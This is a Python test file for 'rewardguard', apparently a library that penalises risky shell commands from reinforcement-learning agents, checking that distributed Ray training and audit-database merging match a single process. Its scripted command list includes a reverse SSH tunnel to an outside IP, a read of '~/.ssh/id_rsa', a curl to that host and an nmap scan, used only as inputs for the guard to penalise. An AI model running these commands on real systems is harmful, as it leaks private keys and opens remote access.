"""rewardguard.ray with the real Ray (2.60), local and on loopback only.

Two rollout workers of two envs each, one coordinator, four training steps,
against one process over the same four envs (rg.Guard, EpisodeCosts and
lagrangian_update as in single-process training): the same verdicts,
penalties, shaped rewards and multipliers. Then the workers' audit
databases merged into one that holds every record of both.
"""

import os
import sys

import numpy as np
import pytest
import ray

import rewardguard as rg
from rewardguard import _C, audit
from rewardguard.distributed import EpisodeCosts, lagrangian_update
from rewardguard.ray import GuardCoordinator, RolloutGuard

WORKERS, ENVS, STEPS = 2, 2, 4
COMMANDS = ["ls -la", "curl https://203.0.113.5/x", "pytest -q", "ssh -R 9000:localhost:22 a@203.0.113.5",
            "cat ~/.ssh/id_rsa", "nmap -sS 10.0.0.0/24", "pip install requests"]
LIMITS = {"network": 0.0}
PID = {"ki": 0.5, "kp": 0.1}


def calls_at(step, env):
    """The call env `env` (global id) makes at `step`: a fixed script."""
    return COMMANDS[(3 * env + step) % len(COMMANDS)]


def done_at(step, env):
    """Episodes end at different steps in different envs."""
    return (step + env) % 2 == 1


@pytest.fixture(scope="module")
def ray_local():
    os.environ.setdefault("RAY_ENABLE_UV_RUN_RUNTIME_ENV", "0")
    os.environ["RAY_USAGE_STATS_ENABLED"] = "0"      # no report to outside hosts: loopback only
    # The workers unpickle this module's actor by value: they need not import it.
    ray.cloudpickle.register_pickle_by_value(sys.modules[__name__])
    ray.init(num_cpus=WORKERS, include_dashboard=False, _node_ip_address="127.0.0.1",
             configure_logging=False, log_to_driver=False)
    yield
    ray.shutdown()


@ray.remote(num_cpus=1)
class Worker:
    """A rollout worker with the few lines rewardguard asks for."""

    def __init__(self, policy, coordinator, rank, audit_path):
        self.rank = rank
        self.guard = RolloutGuard(policy, ENVS, coordinator=coordinator, rank=rank, audit=audit_path,
                                  run_name=f"worker-{rank}")

    def rollout(self, step):
        weights = self.guard.begin_step(step)
        envs = [self.rank * ENVS + e for e in range(ENVS)]      # global ids, for the script
        v = self.guard.evaluate([(e, "shell", calls_at(step, g)) for e, g in enumerate(envs)])
        shaped = self.guard.shape(np.ones(ENVS, dtype=np.float32), v)
        self.guard.end_episodes(np.array([done_at(step, g) for g in envs]))
        self.guard.end_step(step)
        return {"actions": v.call_actions, "penalties": self.guard.guard.penalty(v),
                "shaped": shaped, "weights": weights}

    def close(self):
        self.guard.close()


def single_process():
    """The same training in one process over all the envs."""
    guard = rg.Guard("coding-sandbox", WORKERS * ENVS)
    lag = rg.Lagrangian(guard, LIMITS, **PID)
    stats = EpisodeCosts(guard)
    out = []
    for step in range(STEPS):
        weights = guard.weights
        v = guard.evaluate([(e, "shell", calls_at(step, e)) for e in range(WORKERS * ENVS)])
        shaped = guard.shape(np.ones(WORKERS * ENVS, dtype=np.float32), v)
        done = np.array([done_at(step, e) for e in range(WORKERS * ENVS)])
        stats.add(v, done=done)
        guard.reset(done)
        out.append({"actions": v.call_actions, "penalties": guard.penalty(v), "shaped": shaped,
                    "weights": weights})
        lagrangian_update(lag, stats)
    return out, lag.multipliers


def test_two_workers_match_one_process(ray_local, tmp_path):
    policy = rg.Policy.load("coding-sandbox")
    coordinator = GuardCoordinator.remote(policy, num_workers=WORKERS, limits=LIMITS, **PID)
    dbs = [str(tmp_path / f"worker-{r}.db") for r in range(WORKERS)]
    workers = [Worker.remote(policy, coordinator, r, dbs[r]) for r in range(WORKERS)]
    steps = [ray.get([w.rollout.remote(step) for w in workers]) for step in range(STEPS)]
    ray.get([w.close.remote() for w in workers])
    multipliers = ray.get(coordinator.weights.remote(STEPS)) - 1.0   # after the last update
    history = ray.get(coordinator.history.remote())

    expected, expected_multipliers = single_process()
    for step, (per_worker, want) in enumerate(zip(steps, expected)):
        for key in ("actions", "penalties", "shaped"):
            got = np.concatenate([w[key] for w in per_worker])
            np.testing.assert_allclose(got, want[key], rtol=1e-6, err_msg=f"{key} at step {step}")
        for w in per_worker:
            np.testing.assert_allclose(w["weights"], want["weights"], rtol=1e-6)
    np.testing.assert_allclose(multipliers, expected_multipliers, rtol=1e-6)
    network = policy.categories.index("network")
    assert expected_multipliers[network] > 0                       # the multipliers moved
    assert expected[-1]["weights"][network] > expected[0]["weights"][network]
    assert [h["step"] for h in history] == list(range(STEPS))      # one update per step
    assert sum(h["violations"] for h in history) == sum(
        int(np.count_nonzero(e["actions"])) for e in expected)

    # One database from the two: every record of both workers, runs kept apart.
    merged = tmp_path / "audit.db"
    line = audit.merge(merged, dbs)
    assert line.startswith(f"merged 2 databases into `{merged}`: 2 runs, {WORKERS * ENVS * STEPS} events")
    reader = _C.AuditReader(str(merged))
    runs = reader.find_runs(None)
    assert [(name, events) for _, name, events in runs] == [
        ("worker-0", ENVS * STEPS), ("worker-1", ENVS * STEPS)]
    for (run_id, _, _), db in zip(runs, dbs):
        source = _C.AuditReader(db)
        (src_id, _, _), = source.find_runs(None)
        got, want = reader.event_columns(run_id), source.event_columns(src_id)
        assert set(got) == set(want)
        for key in want:
            if isinstance(want[key], np.ndarray):
                np.testing.assert_array_equal(got[key], want[key], err_msg=key)
            else:
                assert got[key] == want[key], key


def test_merge_refuses_what_is_not_an_audit_database(tmp_path):
    bad = tmp_path / "notes.db"
    bad.write_text("not a database, some text long enough to be looked at\n")
    with pytest.raises(audit.AuditError, match="not a rewardguard audit database"):
        audit.merge(tmp_path / "out.db", [bad])
    assert not (tmp_path / "out.db").exists()


def test_a_rank_reporting_a_step_again_does_not_close_it(ray_local):
    policy = rg.Policy.load("coding-sandbox")
    coordinator = GuardCoordinator.remote(policy, num_workers=2, limits=LIMITS, **PID)
    cost = np.zeros(len(policy.categories))
    cost[policy.categories.index("network")] = 4.0
    ray.get(coordinator.report.remote(0, 0, cost, 2, 1))
    ray.get(coordinator.report.remote(0, 0, cost, 2, 1))      # rank 0 restarted and reported again
    assert ray.get(coordinator.history.remote()) == []        # rank 1 has not reported: still open
    assert ray.get(coordinator.missing.remote(0)) == [1]
    with pytest.raises(ray.exceptions.RayTaskError, match="rank 2 is not one of the 2 workers"):
        ray.get(coordinator.report.remote(0, 2, cost, 1, 0))
    with pytest.raises(ray.exceptions.RayTaskError, match="cost_sum has 1 entries"):
        ray.get(coordinator.report.remote(0, 1, [1.0], 1, 0))
    ray.get(coordinator.report.remote(0, 1, np.zeros_like(cost), 2, 0))
    (closed,) = ray.get(coordinator.history.remote())         # closed once, rank 0 counted once
    assert closed["episodes"] == 4 and closed["violations"] == 1
    assert closed["mean_cost"] == pytest.approx((cost / 4).tolist())
    lag = rg.Lagrangian(None, LIMITS, categories=policy.categories, **PID)
    lag.update(cost / 4)
    np.testing.assert_allclose(ray.get(coordinator.weights.remote(1)), lag.weights, rtol=1e-6)
    with pytest.raises(ray.exceptions.RayTaskError, match="step 0 was already closed"):
        ray.get(coordinator.report.remote(0, 1, cost, 1, 0))


def test_begin_step_times_out_naming_the_silent_rank(ray_local):
    policy = rg.Policy.load("coding-sandbox")
    coordinator = GuardCoordinator.remote(policy, num_workers=2)
    guard = RolloutGuard(policy, ENVS, coordinator=coordinator, rank=0, step_timeout=0.5)
    guard.begin_step(0, timeout=60)                            # (the actor's start)
    guard.end_step(0)                                          # rank 1 never reports step 0
    with pytest.raises(TimeoutError, match=r"step 0 is still waiting .* rank\(s\) \[1\]"):
        guard.begin_step(1)                                    # the default timeout: step_timeout
    with pytest.raises(TimeoutError, match="after 0.2 s"):
        guard.begin_step(1, timeout=0.2)
    with pytest.raises(ValueError, match="needs its worker's rank"):
        RolloutGuard(policy, ENVS, coordinator=coordinator)


def test_observations_count_into_the_episode_costs():
    guard = RolloutGuard("coding-sandbox", ENVS)
    seen = {"type": "net.connect", "host": "203.0.113.5", "port": 22}
    v = guard.observe(1, seen)
    assert v.penalties[1] > 0
    np.testing.assert_allclose(guard.stats.running[1], v.costs[1])
    guard.end_episodes([1])
    np.testing.assert_allclose(guard.stats.finished_sum, v.costs[1])
    assert guard.stats.finished == 1
    reference = rg.Guard("coding-sandbox", ENVS).observe(1, seen)
    np.testing.assert_allclose(v.costs, reference.costs)
